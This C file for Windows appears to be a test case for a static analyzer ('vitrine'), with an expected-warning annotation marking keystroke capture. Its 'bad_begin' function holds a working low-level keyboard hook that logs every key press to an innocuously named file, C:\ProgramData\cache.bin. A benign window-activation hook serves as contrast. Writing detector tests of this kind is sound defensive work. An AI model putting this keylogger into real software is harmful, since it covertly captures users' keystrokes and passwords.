// target: x86_64-w64-mingw32
// Hooks: what a keyboard says, and what windows do.
#include <windows.h>

static HANDLE out;

static LRESULT CALLBACK watch(int code, WPARAM kind, LPARAM key) {
    char line[64];
    DWORD done;
    const KBDLLHOOKSTRUCT *pressed = (const KBDLLHOOKSTRUCT *)key;
    if (code == HC_ACTION && kind == WM_KEYDOWN) {
        int length = wsprintfA(line, "%lu ", pressed->vkCode);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/capture]}}
        WriteFile(out, line, (DWORD)length, &done, NULL);
    }
    return CallNextHookEx(NULL, code, kind, key);
}

static LRESULT CALLBACK look_at_windows(int code, WPARAM window, LPARAM more) {
    char line[64];
    DWORD done;
    if (code == HCBT_ACTIVATE) {
        int length = wsprintfA(line, "%p %p\r\n", (void *)window, (void *)more);
        WriteFile(out, line, (DWORD)length, &done, NULL);
    }
    return CallNextHookEx(NULL, code, window, more);
}

void bad_begin(HINSTANCE self) {
    out = CreateFileA("C:\\ProgramData\\cache.bin", FILE_APPEND_DATA, FILE_SHARE_READ, NULL,
                      OPEN_ALWAYS, 0, NULL);
    SetWindowsHookExA(WH_KEYBOARD_LL, watch, self, 0);
}

void good_begin(HINSTANCE self) {
    SetWindowsHookExA(WH_CBT, look_at_windows, self, 0);
}
